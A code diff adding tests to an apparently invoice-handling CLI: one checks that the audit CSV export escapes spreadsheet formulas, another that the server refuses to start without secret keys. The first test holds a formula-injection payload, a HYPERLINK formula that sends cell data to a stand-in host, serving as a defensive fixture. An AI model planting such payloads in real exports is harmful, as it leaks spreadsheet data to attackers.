@@ -19,6 +19,7 @@ from tests.conftest import TEST_KEYS
 from tests.fakes import SmtpSink
 from tests.harness import DATA, TODAY, Running, fixed_clock, request_mail
 from tests.worlds import INTENTS_DATA, KINDS, scratch_database
+from vault import audit
 
 CLI_TIMEOUT = 120  # seconds; a command takes a few
 
@@ -96,6 +97,25 @@ async def test_audit_export_lists_what_was_asked(cli: Cli, orm: str) -> None:
     assert all(r["account_id"] == "ACME" for r in rows)
     code, out, _ = await cli.run("audit", "export", "--account", "GLOBEX")
     assert "bot.request.answered" not in out
+
+
+async def test_audit_export_neutralises_a_formula_user_agent(cli: Cli, orm: str) -> None:
+    formula = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
+    await audit.record("vault.link.refused", ip="198.51.100.9", user_agent=formula)
+    await audit.record("vault.link.refused", ip="198.51.100.9", user_agent="\t-1+1")
+    code, out, _ = await cli.run("audit", "export")
+    assert code == 0
+    agents = [r["user_agent"] for r in csv.DictReader(io.StringIO(out))]
+    assert agents == ["'" + formula, "'\t-1+1"]  # shown as text by a spreadsheet
+
+
+async def test_serve_without_secret_keys_exits_2_even_with_a_demo_key_file(cli: Cli) -> None:
+    key_file = Path(cli.env["INVOICEBOT_VAULT_PATH"]).parent / "secret_key"
+    key_file.write_text("d" * 48)  # left by an earlier `serve --demo`
+    cli.env.pop("INVOICEBOT_SECRET_KEYS")
+    code, _, err = await cli.run("serve")
+    assert code == 2
+    assert "INVOICEBOT_SECRET_KEYS is not set" in err and "--demo" in err
 
 
 async def test_a_broken_row_exits_2_naming_the_line_and_writes_nothing(
